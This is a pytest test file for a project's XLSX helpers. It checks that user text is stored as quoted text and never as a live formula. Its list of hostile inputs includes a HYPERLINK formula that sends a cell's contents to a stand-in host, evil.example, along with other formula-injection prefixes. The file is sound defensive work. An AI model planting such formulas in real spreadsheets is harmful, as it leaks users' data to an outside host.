"""User text in XLSX cells is text, never a formula (issue 8, item 6)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bagalau.core.xlsx import append_row, text_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _saved(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("value", HOSTILE, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_hostile_string_is_stored_as_quoted_text(value):
    book = Workbook()
    sheet = book.active
    append_row(sheet, [value, 7, None, "plain"])
    content = _saved(book)
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    cell = load_workbook(io.BytesIO(content)).active["A1"]
    assert cell.value == value.replace("\r", "\n")  # XML reads a bare CR as a line feed
    assert cell.data_type == "s"
    assert cell.quotePrefix is True
    again = load_workbook(io.BytesIO(content)).active
    assert again["B1"].value == 7
    assert again["B1"].data_type == "n"
    assert again["C1"].value is None
    assert again["D1"].value == "plain"
    assert again["D1"].quotePrefix is False


def test_without_the_helper_openpyxl_writes_a_formula():
    """The attack the helper stops: openpyxl's own append stores '=...' as a live formula."""
    book = Workbook()
    book.active.append([HOSTILE[0]])
    xml = zipfile.ZipFile(io.BytesIO(_saved(book))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" in xml


def test_text_cell_keeps_the_text_of_any_value_and_rows_follow_each_other():
    book = Workbook()
    sheet = book.active
    assert append_row(sheet, ["title"]) == 1
    assert append_row(sheet, []) == 2
    assert append_row(sheet, ["=A1", 1]) == 3
    cell = text_cell(sheet["C5"], 12.5)
    assert cell.value == "12.5"
    assert cell.data_type == "s"
    loaded = load_workbook(io.BytesIO(_saved(book))).active
    assert [loaded["A1"].value, loaded["A3"].value, loaded["B3"].value] == ["title", "=A1", 1]
